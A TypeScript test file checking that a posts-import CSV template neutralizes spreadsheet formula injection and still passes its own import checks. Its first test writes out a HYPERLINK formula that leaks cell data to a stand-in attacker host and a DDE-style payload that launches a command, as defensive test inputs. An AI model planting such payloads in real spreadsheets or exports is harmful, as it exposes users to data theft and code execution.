import { describe, expect, it } from "vitest";
import Papa from "papaparse";
import { normalizeImportHeader, type ImportContext } from "@mg/api/post-import";
import { checkRows, templateCsv } from "../src/app/[orgSlug]/posts/import/csv-check";

const parse = (csv: string) => Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: "greedy", transformHeader: normalizeImportHeader });

describe("the posts import template", () => {
  it("is written by the shared CSV writer: hostile account and campaign names come out inert", () => {
    const csv = templateCsv({ account: '=HYPERLINK("https://evil.example?"&A1,"open")', date: "2030-01-02", timezone: "Europe/London", campaign: "@SUM(1+1)*cmd|' /C calc'!A0" });
    const cells = Papa.parse<string[]>(csv).data.flat();
    expect(cells).toContain("'=HYPERLINK(\"https://evil.example?\"&A1,\"open\")");
    expect(cells).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    // RFC 4180 line ends, like every file the writer produces.
    expect(csv.split("\r\n")).toHaveLength(3);
  });

  it("passes the import's own checks as downloaded, although its @handle cells are neutralized", async () => {
    const csv = templateCsv({ account: "@northwind", date: "2030-01-02", timezone: "Europe/London", campaign: "Spring launch" });
    expect(csv).toContain(",'@northwind,");
    const { data, meta } = parse(csv);
    expect(meta.fields).toEqual(["content", "accounts", "date", "time", "timezone", "labels", "campaign", "first_comment"]);
    const ctx: ImportContext = {
      timezone: "Europe/London",
      accounts: [{ id: "acc_1", name: "Northwind Bakery", handle: "northwind", status: "CONNECTED", network: "SANDBOX" }],
      campaigns: [{ id: "cmp_1", name: "Spring launch" }],
      now: new Date("2029-12-31T12:00:00Z"),
    };
    expect(await checkRows(data, ctx, () => {})).toEqual([]);
  });
});
